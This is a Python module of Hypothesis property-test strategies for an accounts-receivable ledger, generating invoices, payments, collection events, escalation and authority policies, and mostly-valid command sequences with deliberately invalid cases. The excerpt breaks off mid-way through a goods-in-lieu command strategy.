"""Shared Hypothesis strategies for the unit and property tests, with explicit bounds.

Bounds: ``amount_minor`` from 1 to 10**12, business dates from 2000-01-01 to 2100-12-31,
record-keeping instants in UTC only. Besides values and one strategy per event type, the module
generates command sequences for the ``Ledger``: mostly valid, some refused on purpose (unknown
keys, conflicting repeats, zero amounts, blank reasons, back-dated or over-large movements).
"""

from __future__ import annotations

import itertools
import string
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from typing import Any, Final

import attrs
from hypothesis import strategies as st

from arledger.domain.authority import (
    ApproverRole,
    AuthorityPeriod,
    AuthorityPolicy,
    ReductionKind,
    RoleAuthority,
)
from arledger.domain.events import (
    ActionChannel,
    AllocationReleased,
    AllocationRule,
    AllocationRuleAdopted,
    AuthorityPolicyAdopted,
    BalanceConfirmationAcknowledged,
    BalanceConfirmationSent,
    BankruptcyFiled,
    CashHandedOver,
    CollectionActionRecorded,
    CollectionOwnerChanged,
    CollectionTargetSet,
    ConcessionApproved,
    ContactRole,
    CreditLineSet,
    CreditNoteApplied,
    CreditNoteRegistered,
    CustomerAccountOpened,
    CustomerBlacklisted,
    CustomerCleared,
    DelinquencyDiagnosed,
    DelinquencyType,
    DisputeOpened,
    DisputeOutcome,
    DisputeReason,
    DisputeResolved,
    EscalationPolicyAdopted,
    Event,
    ExchangeRateRecorded,
    FraudSuspected,
    GoodsAllocation,
    GoodsInLieuApplied,
    GoodsInLieuApproved,
    GoodsInLieuProposed,
    GoodsInLieuSettled,
    Instalment,
    InvoiceAddedToAccount,
    InvoiceDueDateOverridden,
    InvoiceIssued,
    InvoiceReinstated,
    InvoiceWrittenOff,
    KeyContactSet,
    NegotiationWaived,
    PaymentAllocated,
    PaymentApplied,
    PaymentCalendarSet,
    PaymentCollected,
    PaymentReceived,
    PaymentReversed,
    PaymentTermsChanged,
    PaymentTermsKind,
    PaymentUnapplied,
    PromiseMade,
    PromiseSuperseded,
    PromiseTranche,
    PromiseWithdrawn,
    ReceiptMethod,
    ReconciliationResolution,
    ReconciliationResolved,
    ReductionApproved,
    ReductionRejected,
    ReductionRequested,
    RiskRated,
    RiskRating,
    SupplyHeld,
    SupplyReleased,
)
from arledger.domain.goods_in_lieu import valued_minor
from arledger.domain.money import Money
from arledger.domain.policy import (
    RATING_VALUES,
    AgeingBasis,
    AgeingPolicy,
    DelinquencyAdjustment,
    DistressEffect,
    EscalationLevel,
    EscalationPolicy,
    LossRate,
    NegotiationRule,
    PreDueReminderRule,
    Trigger,
    TriggerRule,
)
from arledger.domain.rules import DATE_MAX as RULES_DATE_MAX
from arledger.domain.rules import DATE_MIN as RULES_DATE_MIN
from arledger.domain.rules import TERMS_DAYS_MAX

AMOUNT_MINOR_MIN: Final = 1
AMOUNT_MINOR_MAX: Final = 10**12
DATE_MIN: Final = date(2000, 1, 1)
DATE_MAX: Final = date(2100, 12, 31)
CURRENCIES: Final = ("CNY", "USD", "EUR", "GBP", "JPY", "KWD")

# Values -----------------------------------------------------------------------------------------

amounts_minor = st.integers(AMOUNT_MINOR_MIN, AMOUNT_MINOR_MAX)
business_dates = st.dates(DATE_MIN, DATE_MAX)
recorded_ats = st.datetimes(
    min_value=datetime(2000, 1, 1),
    max_value=datetime(2100, 12, 31, 23, 59, 59),
    timezones=st.just(UTC),
)
currencies = st.sampled_from(CURRENCIES)
moneys = st.builds(Money, amounts_minor, currencies)
keys = st.text(alphabet=string.ascii_uppercase + string.digits + "-/", min_size=1, max_size=24)
texts = (
    st.text(
        st.characters(min_codepoint=32, max_codepoint=0x2FFF, exclude_categories=("Cs", "Cc")),
        min_size=1,
        max_size=40,
    )
    .map(str.strip)
    .filter(bool)
)
terms_kinds = st.sampled_from(PaymentTermsKind)
terms_days = st.integers(0, TERMS_DAYS_MAX)
versions = st.integers(1, 10**6)


@st.composite
def instalment_schedules(
    draw: st.DrawFn, amount_minor: int, issued_on: date, *, count_max: int = 4
) -> tuple[Instalment, ...]:
    """A valid schedule: positive parts summing to ``amount_minor``, strictly later due dates."""
    days_available = (DATE_MAX - issued_on).days
    count = draw(st.integers(1, max(1, min(count_max, amount_minor, days_available + 1))))
    cuts = (
        sorted(
            draw(st.sets(st.integers(1, amount_minor - 1), min_size=count - 1, max_size=count - 1))
        )
        if count > 1
        else []
    )
    bounds = [0, *cuts, amount_minor]
    parts = [high - low for low, high in itertools.pairwise(bounds)]
    offsets = sorted(
        draw(st.sets(st.integers(0, min(days_available, 400)), min_size=count, max_size=count))
    )
    schedule = tuple(
        Instalment(due_on=issued_on + timedelta(days=offset), amount_minor=part)
        for offset, part in zip(offsets, parts, strict=True)
    )
    assert sum(i.amount_minor for i in schedule) == amount_minor
    return schedule


# Events -----------------------------------------------------------------------------------------


def _envelope() -> dict[str, st.SearchStrategy[Any]]:
    return {"originator_id": st.uuids(), "originator_version": versions, "timestamp": recorded_ats}


@st.composite
def invoices_issued(draw: st.DrawFn) -> InvoiceIssued:
    amount_minor = draw(amounts_minor)
    issued_on = draw(st.dates(DATE_MIN, DATE_MAX - timedelta(days=400)))
    if draw(st.booleans()):
        instalments = draw(instalment_schedules(amount_minor, issued_on))
        due_on = instalments[-1].due_on
    else:
        instalments = ()
        due_on = issued_on + timedelta(days=draw(st.integers(0, 365)))
    return InvoiceIssued(
        originator_id=draw(st.uuids()),
        originator_version=1,
        timestamp=draw(recorded_ats),
        invoice_number=draw(keys),
        customer_id=draw(st.uuids()),
        amount_minor=amount_minor,
        currency=draw(currencies),
        issued_on=issued_on,
        due_on=due_on,
        instalments=instalments,
        contract_reference=draw(st.just("") | texts),
    )


def _movement(cls: type[Event], on: str, **more: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.builds(
        cls,
        **_envelope(),
        amount_minor=amounts_minor,
        currency=currencies,
        **{on: business_dates},
        **more,
    )


# One strategy per event type; tests/property/test_serialization.py checks that every type in
# ``ALL_EVENTS`` has one.
EVENT_STRATEGIES: Final[dict[type[Event], st.SearchStrategy[Any]]] = {
    CustomerAccountOpened: st.builds(
        CustomerAccountOpened,
        **_envelope(),
        customer_code=keys,
        name=texts,
        currency=currencies,
        collection_owner=texts,
        terms_kind=terms_kinds,
        terms_days=terms_days,
        opened_on=business_dates,
    ),
    InvoiceAddedToAccount: st.builds(
        InvoiceAddedToAccount, **_envelope(), invoice_id=st.uuids(), invoice_number=keys
    ),
    InvoiceIssued: invoices_issued(),
    PaymentApplied: _movement(PaymentApplied, "applied_on", payment_id=st.uuids()),
    PaymentUnapplied: _movement(
        PaymentUnapplied, "unapplied_on", payment_id=st.uuids(), reason=texts
    ),
    CreditNoteApplied: _movement(
        CreditNoteApplied,
        "applied_on",
        credit_note_number=keys,
        reason=texts,
        approver=st.none() | texts,
        second_approver=st.none() | texts,
    ),
    CreditNoteRegistered: _movement(
        CreditNoteRegistered,
        "applied_on",
        credit_note_number=keys,
        invoice_id=st.uuids(),
        customer_id=st.uuids(),
        reason=texts,
    ),
    ConcessionApproved: _movement(
        ConcessionApproved,
        "approved_on",
        reason=texts,
        approver=texts,
        second_approver=st.none() | texts,
    ),
    InvoiceWrittenOff: _movement(
        InvoiceWrittenOff,
        "written_off_on",
        reason=texts,
        approver=texts,
        second_approver=st.none() | texts,
    ),
    GoodsInLieuApplied: _movement(GoodsInLieuApplied, "applied_on", settlement_reference=keys),
    InvoiceDueDateOverridden: st.builds(
        InvoiceDueDateOverridden,
        **_envelope(),
        due_on=business_dates,
        previous_due_on=business_dates,
        overridden_on=business_dates,
        reason=texts,
        approver=texts,
    ),
    InvoiceReinstated: _movement(InvoiceReinstated, "reinstated_on", reason=texts, approver=texts),
    PaymentReceived: _movement(
        PaymentReceived, "value_on", bank_reference=keys, payer_customer_id=st.uuids()
    ),
    PaymentAllocated: _movement(
        PaymentAllocated, "allocated_on", invoice_id=st.uuids(), allocation_key=st.none() | keys
    ),
    PaymentReversed: st.builds(
        PaymentReversed,
        **_envelope(),
        reversed_on=business_dates,
        reason=texts,
        released=st.lists(
            st.builds(AllocationReleased, invoice_id=st.uuids(), amount_minor=amounts_minor),
            max_size=3,
        ).map(tuple),
    ),
}

# Escalation ladders ----------------------------------------------------------------------------

TRIGGER_THRESHOLDS: Final[dict[TriggerRule, st.SearchStrategy[int]]] = {
    # Each rule's thresholds in its unit (TRIGGER_RULES): mostly ones a small history crosses,
    # now and then one nothing reaches. A rule missing here fails every test importing this.
    TriggerRule.DAYS_PAST_DUE: st.integers(0, 200) | st.just(10_000),
    TriggerRule.OVERDUE_AMOUNT: st.integers(0, 5) | st.integers(0, 200_000) | st.just(10**12),
    TriggerRule.BROKEN_PROMISES: st.integers(0, 4),
    TriggerRule.RISK_RATING: st.integers(0, 5),
    TriggerRule.BLACKLISTED: st.integers(0, 3),
    TriggerRule.OVERDUE_INVOICE_COUNT: st.integers(0, 4) | st.just(10_000),
}
assert set(TRIGGER_THRESHOLDS) == set(TriggerRule), "every trigger rule needs thresholds"
REQUIRED_ACTIONS: Final = (*(channel.value for channel in ActionChannel), "legal_review")
"""Action names a rung can require: every channel, and one no action is ever recorded as."""


@st.composite
def ladders(
    draw: st.DrawFn,
    *,
    levels_max: int = 4,
    thresholds: dict[TriggerRule, st.SearchStrategy[int]] | None = None,
) -> tuple[EscalationLevel, ...]:
    """An escalation ladder: level 0 without triggers, then 1 to ``levels_max`` levels, each
    with up to four triggers of any rule (a rule twice on a level too) at any threshold."""
    thresholds = TRIGGER_THRESHOLDS if thresholds is None else thresholds
    levels = [EscalationLevel(level=0, name="current")]
    for number in range(1, draw(st.integers(1, levels_max)) + 1):
        rules = draw(st.lists(st.sampled_from(TriggerRule), max_size=4))
        triggers = tuple(Trigger(rule=rule, threshold=draw(thresholds[rule])) for rule in rules)
        levels.append(
            EscalationLevel(
                level=number,
                name=f"rung {number}",
                triggers=triggers,
                required_actions=tuple(
                    draw(st.lists(st.sampled_from(REQUIRED_ACTIONS), max_size=3, unique=True))
                ),
                action_due_days=draw(st.integers(0, 10)),
                supply_hold=draw(st.booleans()),
            )
        )
    return tuple(levels)


@st.composite
def authority_policies(draw: st.DrawFn) -> AuthorityPolicy:
    """A valid authority policy: one to three roles with limits in one to two currencies each,
    and one to four approvers holding them."""
    roles = draw(st.lists(st.sampled_from(("manager", "director", "cfo")), min_size=1, unique=True))
    limits = []
    for role in roles:
        for currency in draw(st.lists(currencies, min_size=1, max_size=2, unique=True)):
            reduction_max = draw(amounts_minor)
            limits.append(
                RoleAuthority(
                    role=role,
                    currency=currency,
                    reduction_max_minor=reduction_max,
                    customer_period_max_minor=draw(st.integers(reduction_max, AMOUNT_MINOR_MAX)),
                    two_approvers_above_minor=draw(st.none() | amounts_minor),
                    postponement_days_max=draw(st.none() | st.integers(0, 365)),
                )
            )
    names = draw(
        st.lists(st.sampled_from(("cfo", "sales director", "li", "wang")), min_size=1, unique=True)
    )
    return AuthorityPolicy(
        version=draw(st.integers(1, 50)),
        approvers=tuple(
            ApproverRole(approver=name, role=draw(st.sampled_from(roles))) for name in names
        ),
        roles=tuple(limits),
        period=draw(st.sampled_from(AuthorityPeriod)),
    )


@st.composite
def loss_rates(draw: st.DrawFn) -> LossRate:
    """An exact loss rate from 0 to 1 (a denominator up to 10**12, as the policy allows)."""
    denominator = draw(st.sampled_from((1, 10_000, 23_000)) | st.integers(1, 10**12))
    return LossRate(numerator=draw(st.integers(0, denominator)), denominator=denominator)


@st.composite
def goods_proposals(draw: st.DrawFn) -> GoodsInLieuProposed:
    """A proposal of goods in lieu, valued with its haircut as the domain values it."""
    appraised_minor = draw(amounts_minor)
    haircut_bps = draw(st.integers(0, 10_000))
    return GoodsInLieuProposed(
        originator_id=draw(st.uuids()),
        originator_version=draw(versions),
        timestamp=draw(recorded_ats),
        settlement_reference=draw(keys),
        goods=draw(texts),
        quantity=draw(st.integers(1, 10**6)),
        unit=draw(keys),
        appraised_minor=appraised_minor,
        currency=draw(currencies),
        appraiser=draw(texts),
        haircut_bps=haircut_bps,
        valued_minor=valued_minor(appraised_minor, haircut_bps),
        proposed_on=draw(business_dates),
    )


# Collections events: one strategy each, with the same bounds.
_opt_dates = st.none() | business_dates
_small_ints = st.integers(0, 10**6)
_escalation_policies_base = st.builds(
    EscalationPolicy,
    version=st.integers(2, 50),
    ageing=st.builds(
        AgeingPolicy,
        edges_days=st.lists(st.integers(1, 400), min_size=4, max_size=4, unique=True).map(
            lambda edges: tuple(sorted(edges))
        ),
        basis=st.sampled_from(AgeingBasis),
    ),
    long_after_days=st.integers(0, 365),
    large_above_major=st.integers(0, 10**9),
    large_above_major_by_currency=st.dictionaries(currencies, st.integers(0, 10**9), max_size=3),
    levels=ladders(),
    disputed_counts=st.booleans(),
    promise_tolerance_days=st.integers(0, 30),
    promise_tolerance_days_by_rating=st.dictionaries(
        st.sampled_from(RATING_VALUES), st.integers(0, 30), max_size=4
    ),
    promise_suspends=st.booleans(),
    partly_kept_counts_as_broken=st.booleans(),
    credit_block_level=st.integers(0, 4),
    credit_line_capital_ratio_bps=st.integers(0, 10000),
    provision_rates_bps=st.lists(st.integers(0, 10000), min_size=6, max_size=6).map(tuple),
    provision_loss_rates=st.none() | st.lists(loss_rates(), min_size=6, max_size=6).map(tuple),
    goods_in_lieu_haircut_bps=st.integers(0, 10000),
    pre_due_reminders=st.lists(
        st.builds(
            PreDueReminderRule,
            days_before_due=st.integers(0, 365),
            rating_at_or_worse=st.integers(0, 4),
            amount_at_least_major=st.integers(0, 10**9),
        ),
        max_size=3,
    ).map(tuple),
    pre_due_reminder_channels=st.lists(
        st.sampled_from(REQUIRED_ACTIONS), min_size=1, max_size=3, unique=True
    ).map(tuple),
    negotiation=st.none()
    | st.builds(
        NegotiationRule,
        from_level=st.integers(1, 4),
        channels=st.lists(
            st.sampled_from(REQUIRED_ACTIONS), min_size=1, max_size=3, unique=True
        ).map(tuple),
        within_days=st.integers(0, 365),
    ),
    diagnose_from_level=st.integers(0, 4),
    delinquency_actions=st.dictionaries(
        st.sampled_from(DelinquencyType).map(lambda found: found.value),
        st.lists(st.sampled_from(REQUIRED_ACTIONS), max_size=3).map(tuple),
        max_size=3,
    ),
)


def _with_strategy_per_type(policy: EscalationPolicy) -> st.SearchStrategy[EscalationPolicy]:
    """``policy`` with level adjustments per delinquency type and distress effects drawn
    within its ladder (``EscalationPolicy`` refuses levels beyond its top)."""
    top = len(policy.levels) - 1
    levels = st.none() | st.integers(1, top) if top >= 1 else st.none()
    adjustment = st.builds(
        DelinquencyAdjustment,
        level_offset=st.integers(-top, top),
        level_max=levels,
        routes_to=st.none() | st.sampled_from(REQUIRED_ACTIONS),
    )
    effect = st.builds(
        DistressEffect,
        level_at_least=levels,
        required_actions=st.lists(st.sampled_from(REQUIRED_ACTIONS), max_size=2).map(tuple),
        supply_hold=st.booleans(),
    )
    return st.builds(
        attrs.evolve,
        st.just(policy),
        delinquency_adjustments=st.dictionaries(
            st.sampled_from(DelinquencyType).map(lambda found: found.value),
            adjustment,
            max_size=2,
        ),
        bankruptcy_filed=effect,
        fraud_suspected=effect,
    )


escalation_policies = _escalation_policies_base.flatmap(_with_strategy_per_type)
"""Any policy, with every setting drawn (serialization round trips, stored policies)."""
EVENT_STRATEGIES.update(
    {
        CreditLineSet: st.builds(
            CreditLineSet,
            **_envelope(),
            amount_minor=st.integers(0, AMOUNT_MINOR_MAX),
            currency=currencies,
            effective_on=business_dates,
            approver=texts,
            reason=texts,
            registered_capital_minor=st.none() | amounts_minor,
        ),
        RiskRated: st.builds(
            RiskRated,
            **_envelope(),
            rating=st.sampled_from(RiskRating),
            rated_on=business_dates,
            reason=texts,
        ),
        CustomerBlacklisted: st.builds(
            CustomerBlacklisted, **_envelope(), blacklisted_on=business_dates, reason=texts
        ),
        CustomerCleared: st.builds(
            CustomerCleared, **_envelope(), cleared_on=business_dates, reason=texts
        ),
        BankruptcyFiled: st.builds(
            BankruptcyFiled, **_envelope(), filed_on=business_dates, reason=texts
        ),
        FraudSuspected: st.builds(
            FraudSuspected, **_envelope(), suspected_on=business_dates, reason=texts
        ),
        PaymentTermsChanged: st.builds(
            PaymentTermsChanged,
            **_envelope(),
            terms_kind=terms_kinds,
            terms_days=terms_days,
            changed_on=business_dates,
        ),
        PaymentCalendarSet: st.builds(
            PaymentCalendarSet,
            **_envelope(),
            book_closing_day=st.none() | st.integers(1, 31),
            payment_run_days=st.lists(st.integers(1, 31), unique=True, max_size=4).map(
                lambda days: tuple(sorted(days))
            ),
            set_on=business_dates,
        ),
        CollectionOwnerChanged: st.builds(
            CollectionOwnerChanged, **_envelope(), collection_owner=texts, changed_on=business_dates
        ),
        CollectionTargetSet: st.builds(
            CollectionTargetSet,
            **_envelope(),
            month_on=business_dates.map(lambda on: on.replace(day=1)),
            amount_minor=amounts_minor,
            currency=currencies,
            set_by=texts,
            set_on=business_dates,
            note=texts,
        ),
        KeyContactSet: st.builds(
            KeyContactSet,
            **_envelope(),
            role=st.sampled_from(ContactRole),
            name=texts,
            phone=st.just("") | texts,
            email=st.just("") | texts,
            set_on=business_dates,
        ),
        SupplyHeld: st.builds(
            SupplyHeld, **_envelope(), held_on=business_dates, reason=texts, by_policy=st.booleans()
        ),
        SupplyReleased: st.builds(
            SupplyReleased,
            **_envelope(),
            released_on=business_dates,
            reason=texts,
            by_policy=st.booleans(),
        ),
        BalanceConfirmationSent: st.builds(
            BalanceConfirmationSent,
            **_envelope(),
            confirmation_reference=keys,
            balance_as_of=business_dates,
            ledger_balance_minor=_small_ints,
            currency=currencies,
            sent_on=business_dates,
            statement_from_on=st.none() | business_dates,
            statement_lines=st.none() | _small_ints,
        ),
        BalanceConfirmationAcknowledged: st.builds(
            BalanceConfirmationAcknowledged,
            **_envelope(),
            confirmation_reference=keys,
            confirmed_balance_minor=_small_ints,
            ledger_balance_minor=_small_ints,
            difference_minor=st.integers(-(10**6), 10**6),
            currency=currencies,
            acknowledged_on=business_dates,
        ),
        ReconciliationResolved: st.builds(
            ReconciliationResolved,
            **_envelope(),
            confirmation_reference=keys,
            resolution=st.sampled_from(ReconciliationResolution),
            reference=st.just("") | keys,
            approver=st.just("") | keys,
            resolved_on=business_dates,
            note=texts,
        ),
        AllocationRuleAdopted: st.builds(
            AllocationRuleAdopted,
            **_envelope(),
            rule=st.sampled_from(AllocationRule),
            effective_on=business_dates,
            approver=texts,
            reason=texts,
        ),
        GoodsInLieuProposed: goods_proposals(),
        GoodsInLieuApproved: st.builds(
            GoodsInLieuApproved,
            **_envelope(),
            settlement_reference=keys,
            approved_minor=amounts_minor,
            currency=currencies,
            approver=texts,
            reason=texts,
            approved_on=business_dates,
        ),
        GoodsInLieuSettled: st.builds(
            GoodsInLieuSettled,
            **_envelope(),
            settlement_reference=keys,
            allocations=st.lists(
                st.builds(GoodsAllocation, invoice_id=st.uuids(), amount_minor=amounts_minor),
                min_size=1,
                max_size=3,
            ).map(tuple),
            currency=currencies,
            settled_on=business_dates,
        ),
        DisputeOpened: _movement(
            DisputeOpened,
            "opened_on",
            dispute_reference=keys,
            reason_code=st.sampled_from(DisputeReason),
            root_cause=texts,
        ),
        DisputeResolved: st.builds(
            DisputeResolved,
            **_envelope(),
            dispute_reference=keys,
            outcome=st.sampled_from(DisputeOutcome),
            upheld_minor=_small_ints,
            currency=currencies,
            resolved_on=business_dates,
            note=texts,
        ),
        PromiseMade: st.builds(
            PromiseMade,
            **_envelope(),
            promise_reference=keys,
            customer_id=st.uuids(),
            amount_minor=amounts_minor,
            currency=currencies,
            promised_on=business_dates,
            made_on=business_dates,
            contact=texts,
            invoice_ids=st.lists(st.uuids(), max_size=3).map(tuple),
            tranches=st.lists(
                st.builds(PromiseTranche, promised_on=business_dates, amount_minor=amounts_minor),
                max_size=3,
            ).map(tuple),
        ),
        PromiseWithdrawn: st.builds(
            PromiseWithdrawn, **_envelope(), withdrawn_on=business_dates, reason=texts
        ),
        PromiseSuperseded: st.builds(
            PromiseSuperseded, **_envelope(), superseded_on=business_dates, superseded_by=keys
        ),
        CollectionActionRecorded: st.builds(
            CollectionActionRecorded,
            **_envelope(),
            customer_id=st.uuids(),
            channel=st.sampled_from(ActionChannel),
            taken_on=business_dates,
            collector=texts,
            contact=texts,
            outcome=texts,
            next_step=st.just("") | texts,
            next_step_on=_opt_dates,
        ),
        DelinquencyDiagnosed: st.builds(
            DelinquencyDiagnosed,
            **_envelope(),
            customer_id=st.uuids(),
            delinquency_type=st.sampled_from(DelinquencyType),
            diagnosed_on=business_dates,
            note=texts,
        ),
        NegotiationWaived: st.builds(
            NegotiationWaived,
            **_envelope(),
            customer_id=st.uuids(),
            waived_on=business_dates,
            approver=texts,
            reason=texts,
        ),
        EscalationPolicyAdopted: st.builds(
            EscalationPolicyAdopted,
            **_envelope(),
            policy=escalation_policies,
            effective_on=business_dates,
            approver=texts,
            reason=texts,
        ),
        AuthorityPolicyAdopted: st.builds(
            AuthorityPolicyAdopted,
            **_envelope(),
            policy=authority_policies(),
            effective_on=business_dates,
            approver=texts,
            reason=texts,
        ),
        ReductionRequested: _movement(
            ReductionRequested,
            "reduce_on",
            request_reference=keys,
            kind=st.sampled_from(ReductionKind),
            invoice_id=st.uuids(),
            customer_id=st.uuids(),
            reason=texts,
            requested_by=texts,
            requested_on=business_dates,
            credit_note_number=st.none() | keys,
        ),
        ReductionApproved: st.builds(
            ReductionApproved,
            **_envelope(),
            approver=texts,
            approved_on=business_dates,
            applied=st.booleans(),
        ),
        ReductionRejected: st.builds(
            ReductionRejected,
            **_envelope(),
            rejected_by=texts,
            rejected_on=business_dates,
            reason=texts,
        ),
        PaymentCollected: st.builds(
            PaymentCollected,
            **_envelope(),
            received_by=texts,
            method=st.sampled_from(ReceiptMethod),
        ),
        CashHandedOver: st.builds(
            CashHandedOver, **_envelope(), handed_on=business_dates, received_by_finance=texts
        ),
        ExchangeRateRecorded: st.builds(
            ExchangeRateRecorded,
            **_envelope(),
            from_currency=currencies,
            to_currency=currencies,
            rate_numerator=st.integers(1, 10**15),
            rate_denominator=st.integers(1, 10**15),
            effective_on=business_dates,
            source=texts,
        ),
    }
)

events = st.one_of(*EVENT_STRATEGIES.values())


# Command sequences for the Ledger -----------------------------------------------------------


@attrs.frozen
class Command:
    """One ledger command: the name of a ``Session`` method and its keyword arguments."""

    name: str
    fields: dict[str, Any] = attrs.field(hash=False)

    def __call__(self, session: Any) -> list[Event]:
        result: list[Event] = getattr(session, self.name)(**self.fields)
        return result

    def __repr__(self) -> str:
        args = ", ".join(f"{key}={value!r}" for key, value in self.fields.items())
        return f"{self.name}({args})"


# A small pool of keys and a three-month window of dates make commands run into each other:
# repeats, conflicts, allocations to the same invoices, movements dated before one another.
WINDOW_START: Final = date(2024, 1, 1)
WINDOW_DAYS: Final = 90
CUSTOMER_CODES: Final = ("C1", "C2")
INVOICE_NUMBERS: Final = ("INV-1", "INV-2", "INV-3", "INV-4")
BANK_REFERENCES: Final = ("BR-1", "BR-2", "BR-3")
CREDIT_NOTE_NUMBERS: Final = ("CN-1", "CN-2", "CN-3")
ALLOCATION_KEYS: Final = ("K-1", "K-2", " K-3")  # the last one is refused: not a clean key
UNKNOWN_KEY: Final = "UNKNOWN-9"

window_dates = st.integers(0, WINDOW_DAYS).map(lambda days: WINDOW_START + timedelta(days=days))
# Mostly one currency so that allocations usually match; JPY and KWD make mismatches happen.
command_currencies = st.integers(0, 999).map(lambda n: {3: "JPY", 7: "KWD"}.get(n % 10, "USD"))
# Small amounts so payments settle invoices partly and fully; 10**12 now and then for the bound.
command_amounts = st.integers(1, 1200) | st.just(AMOUNT_MINOR_MAX)
bad_amounts = st.sampled_from((0, -1, -500))


def rarely_bad(good: st.SearchStrategy[Any], bad: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """``good`` nine times in ten, else ``bad``: most commands should pass their checks."""
    # Hypothesis favours the ends of an integer range, so the bad branch sits inside it; a shrink
    # towards 0 lands on the good branch.
    return st.integers(0, 999).flatmap(lambda n: bad if n % 10 == 7 else good)


reasons = rarely_bad(
    st.sampled_from(("bounced", "damaged goods", "customer insolvent")),
    st.sampled_from(("", "  padded  ")),
)
approvers = rarely_bad(st.sampled_from(("cfo", "sales director")), st.just(""))
customer_codes = rarely_bad(st.sampled_from(CUSTOMER_CODES), st.just(UNKNOWN_KEY))
invoice_numbers = st.sampled_from(INVOICE_NUMBERS)
bank_references = st.sampled_from(BANK_REFERENCES)


@st.composite
def command_moneys(draw: st.DrawFn) -> Money:
    return Money(draw(rarely_bad(command_amounts, bad_amounts)), draw(command_currencies))


@st.composite
def open_account_commands(draw: st.DrawFn, code: str | None = None) -> Command:
    """Open an account; with ``code`` given, a valid opening of that account."""
    if code is None:
        code = draw(rarely_bad(st.sampled_from(CUSTOMER_CODES), st.just("")))
        days = rarely_bad(st.sampled_from((0, 30, 60)), st.just(-1))
    else:
        days = st.sampled_from((0, 30, 60))
    return Command(
        "open_account",
        {
            "customer_code": code,
            "name": f"Customer {code}",
            "currency": draw(command_currencies),
            "collection_owner": draw(st.sampled_from(("li", "wang"))),
            "opened_on": draw(window_dates),
            "terms_kind": draw(terms_kinds),
            "terms_days": draw(days),
        },
    )


@st.composite
def issue_invoice_commands(draw: st.DrawFn, invoice_number: str | None = None) -> Command:
    amount = draw(command_moneys())
    issued_on = draw(window_dates)
    fields: dict[str, Any] = {
        "invoice_number": invoice_number or draw(invoice_numbers),
        "customer_code": draw(customer_codes),
        "amount": amount,
        "issued_on": issued_on,
    }
    shape = draw(
        rarely_bad(
            st.sampled_from(("terms", "due_on", "instalments")),
            st.sampled_from(("bad_due", "bad_schedule")),
        )
    )
    if shape == "due_on":
        fields["due_on"] = issued_on + timedelta(days=draw(st.integers(0, 60)))
    elif shape == "bad_due":
        fields["due_on"] = issued_on - timedelta(days=draw(st.integers(1, 10)))
    elif shape in ("instalments", "bad_schedule") and amount.amount_minor > 0:
        schedule = draw(instalment_schedules(amount.amount_minor, issued_on, count_max=3))
        if shape == "bad_schedule":
            last = schedule[-1]
            schedule = (*schedule[:-1], attrs.evolve(last, amount_minor=last.amount_minor + 1))
        fields["instalments"] = schedule
    # Components (BGB 367): some invoices carry interest and fees, now and then more than the
    # amount (refused).
    if (
        type(amount.amount_minor) is int
        and amount.amount_minor > 0
        and draw(st.integers(0, 2)) == 0
    ):
        interest = draw(st.integers(0, amount.amount_minor))
        fees = draw(
            rarely_bad(
                st.integers(0, amount.amount_minor - interest), st.just(1 + amount.amount_minor)
            )
        )
        fields["interest"] = Money(interest, amount.currency)
        fields["fees"] = Money(fees, amount.currency)
    return Command("issue_invoice", fields)


@st.composite
def receive_payment_commands(draw: st.DrawFn, bank_reference: str | None = None) -> Command:
    return Command(
        "receive_payment",
        {
            "bank_reference": bank_reference or draw(bank_references),
            "payer_code": draw(customer_codes),
            "amount": draw(command_moneys()),
            "value_on": draw(window_dates),
        },
    )


@st.composite
def allocate_commands(draw: st.DrawFn) -> Command:
    fields: dict[str, Any] = {
        "bank_reference": draw(rarely_bad(bank_references, st.just(UNKNOWN_KEY)))
    }
    if draw(st.booleans()):
        numbers = draw(
            st.lists(
                rarely_bad(invoice_numbers, st.just(UNKNOWN_KEY)),
                min_size=1,
                max_size=2,
                unique=True,
            )
        )
        fields["allocations"] = {
            number: Money(
                draw(rarely_bad(st.integers(1, 400), bad_amounts)), draw(command_currencies)
            )
            for number in numbers
        }
    else:
        fields["allocations"] = None
    allocated_on = draw(rarely_bad(st.none(), window_dates))
    if allocated_on is not None:
        fields["allocated_on"] = allocated_on
    # A small pool of idempotency keys: some allocations are retried, some keys reused.
    allocation_key = draw(st.none() | st.none() | st.sampled_from(ALLOCATION_KEYS))
    if allocation_key is not None:
        fields["allocation_key"] = allocation_key
    return Command("allocate_payment", fields)


@st.composite
def reverse_payment_commands(draw: st.DrawFn) -> Command:
    return Command(
        "reverse_payment",
        {
            "bank_reference": draw(rarely_bad(bank_references, st.just(UNKNOWN_KEY))),
            "reversed_on": draw(window_dates),
            "reason": draw(reasons),
        },
    )


@st.composite
def credit_note_commands(draw: st.DrawFn) -> Command:
    return Command(
        "apply_credit_note",
        {
            "invoice_number": draw(invoice_numbers),
            "credit_note_number": draw(st.sampled_from(CREDIT_NOTE_NUMBERS)),
            "amount": draw(command_moneys()),
            "applied_on": draw(window_dates),
            "reason": draw(reasons),
            "approver": draw(approvers),
        },
    )


@st.composite
def concession_commands(draw: st.DrawFn) -> Command:
    return Command(
        "approve_concession",
        {
            "invoice_number": draw(invoice_numbers),
            "amount": draw(command_moneys()),
            "approved_on": draw(window_dates),
            "reason": draw(reasons),
            "approver": draw(approvers),
        },
    )


def _invoice_state_command(name: str, on: str) -> Callable[[], st.SearchStrategy[Command]]:
    @st.composite
    def commands(draw: st.DrawFn) -> Command:
        return Command(
            name,
            {
                "invoice_number": draw(rarely_bad(invoice_numbers, st.just(UNKNOWN_KEY))),
                on: draw(window_dates),
                "reason": draw(reasons),
                "approver": draw(approvers),
            },
        )

    return commands


write_off_commands = _invoice_state_command("write_off", "written_off_on")
reinstate_commands = _invoice_state_command("reinstate", "reinstated_on")

# Goods in lieu: appraisals in hundreds of minor units, so that under the default 30% haircut
# the settlements drawn (in seventies) often settle exactly the approved value.
SETTLEMENT_REFERENCES: Final = ("GIL-1", "GIL-2")
settlement_references = rarely_bad(st.sampled_from(SETTLEMENT_REFERENCES), st.just(UNKNOWN_KEY))


@st.composite
def goods_in_lieu_commands(draw: st.DrawFn) -> Command:
    kind = draw(st.sampled_from(("propose", "approve", "settle")))
    customer_code = draw(customer_codes)
    reference = draw(settlement_references)
    if kind == "propose":
        return Command(
            "propose_goods_in_lieu",
            {
                "customer_code": customer_code,
                "settlement_reference": reference,
                "goods": "stock",
                "quantity": draw(st.integers(1, 50)),
                "unit": "piece",
                "appraised": Money(
